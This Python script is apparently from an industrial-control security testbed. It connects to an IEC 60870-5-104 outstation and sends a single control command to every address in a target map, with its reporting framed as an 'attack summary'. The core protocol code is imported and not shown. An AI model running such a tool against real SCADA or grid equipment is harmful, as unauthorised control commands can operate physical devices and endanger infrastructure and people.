#!/usr/bin/env python3
"""
IOA Multi-Target Command

Loads a target map and sends one single command (C_SC_NA_1) per entry,
then waits a fixed window for the outstation's confirmations.

Usage:
    python3 ioa_multi.py [target_ip] [port] [config_path] [--delay MS] [--wait MS]

Exit codes:
    0 - every command sent and none rejected
    1 - nothing sent, config unreadable or no connection
    2 - partial: some sends failed or some commands were rejected
"""

import argparse
import logging
import sys
from pathlib import Path

from pydantic import ValidationError

# Add workspace to path
sys.path.insert(0, str(Path(__file__).parent))

from ioamap.config import (
    DEFAULT_IP, DEFAULT_PORT, DEFAULT_CA, DEFAULT_OA, DEFAULT_TARGET_MAP,
    INTER_CMD_DELAY_MS, RESPONSE_WAIT_MS, SessionSettings,
)
from ioamap.dispatcher import Dispatcher, ResponseTracker
from ioamap.errors import TargetMapError
from ioamap.logging_setup import setup_logging
from ioamap.report import print_attack_summary, print_banner, print_target_map
from ioamap.runtime import open_session
from ioamap.target_map import load_target_map


logger = logging.getLogger("ioa_multi")


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        description="Send a single command to every IOA of a target map")
    parser.add_argument("target_ip", nargs="?", default=DEFAULT_IP)
    parser.add_argument("port", nargs="?", type=int, default=DEFAULT_PORT)
    parser.add_argument("config", nargs="?", default=DEFAULT_TARGET_MAP,
                        help="target map to load")
    parser.add_argument("--debug", action="store_true", help="hex dump every frame")
    parser.add_argument("--ca", type=int, default=DEFAULT_CA, help="common address")
    parser.add_argument("--oa", type=int, default=DEFAULT_OA, help="originator address")
    parser.add_argument("--delay", type=int, default=INTER_CMD_DELAY_MS,
                        help="pause between commands (ms)")
    parser.add_argument("--wait", type=int, default=RESPONSE_WAIT_MS,
                        help="confirmation window after the last command (ms)")
    return parser


def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    setup_logging(args.debug)

    try:
        settings = SessionSettings(
            host=args.target_ip, port=args.port,
            common_address=args.ca, originator_address=args.oa,
            inter_command_delay_s=args.delay / 1000.0,
            response_wait_s=args.wait / 1000.0,
            debug=args.debug,
        )
    except ValidationError as e:
        logger.error(f"Invalid settings: {e}")
        return 1

    print_banner("IOA Multi-Target Command (IEC 60870-5-104)", [
        f"Target : {settings.target}",
        f"Config : {args.config}",
        f"CA={settings.common_address}  OA={settings.originator_address}",
    ])

    try:
        targets = load_target_map(args.config)
    except TargetMapError as e:
        logger.error(f"[!] {e}")
        return 1
    print_target_map(targets)

    tracker = ResponseTracker()
    session = open_session(settings, tracker.on_notification)
    if session is None:
        return 1

    try:
        dispatcher = Dispatcher(session, settings.common_address,
                                settings.inter_command_delay_s)
        run = dispatcher.dispatch(targets, tracker)
        dispatcher.collect(run, settings.response_wait_s)
    finally:
        logger.info("[*] Disconnecting ...")
        session.destroy()

    print_attack_summary(run, run.outcome)
    logger.info(f"[*] Done (exit code {run.exit_code})")
    return run.exit_code


if __name__ == "__main__":
    sys.exit(main())
